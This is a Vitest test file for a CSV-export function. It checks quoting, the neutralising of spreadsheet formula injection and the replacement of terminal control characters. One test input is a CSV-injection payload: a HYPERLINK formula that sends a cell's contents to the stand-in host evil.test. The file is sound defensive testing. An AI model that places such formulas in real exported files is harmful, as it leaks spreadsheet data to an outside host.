import { expect, test } from "vitest";
import { csvRow } from "~/operations/desk/text-layout";

test.each([
  ["plain words", "plain words"],
  ["a, b", '"a, b"'],
  ['say "hi"', '"say ""hi"""'],
  ["two\nlines", '"two\nlines"'],
  [" blanks ", '" blanks "'],
  ["a;b", '"a;b"'],
  ["", ""],
  ["Grüße 日本語 😀", "Grüße 日本語 😀"],
  // A spreadsheet would run these as formulas.
  ["=1+1", "'=1+1"],
  ["+44 113 496 0000", "'+44 113 496 0000"],
  ["-2+3", "'-2+3"],
  ["-1-1", "'-1-1"],
  ["-129.00", "-129.00"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", '"\'\t=1"'],
  ["\ttab", '"\'\ttab"'],
  ["  =1+1", "'  =1+1"],
  ["\n=1+1", '"\'\n=1+1"'],
  ["\ufeff=1+1", "'\ufeff=1+1"],
  ['"=1+1', '"\'""=1+1"'],
  ["'=1+1", "''=1+1"],
  ["＝1+1", "'＝1+1"],
  ['=HYPERLINK("http://evil.test?x="&A1,"x")', '"\'=HYPERLINK(""http://evil.test?x=""&A1,""x"")"'],
])("the text %j becomes the CSV cell %j", (text, cell) =>
  expect(csvRow([text])).toBe(`${cell}\r\n`),
);

test("a CSV record joins its cells with commas and leaves missing values empty", () => {
  expect(csvRow(["a", null, 5, -5, undefined, "b"])).toBe("a,,5,-5,,b\r\n");
});

test("terminal control characters are replaced in CSV output", () => {
  expect(csvRow(["\x1b[31mred\x9b0m\0\u202e"])).toBe("\ufffd[31mred\ufffd0m\ufffd\ufffd\r\n");
  expect(csvRow(["\x1b=1"])).toBe("\ufffd=1\r\n");
});
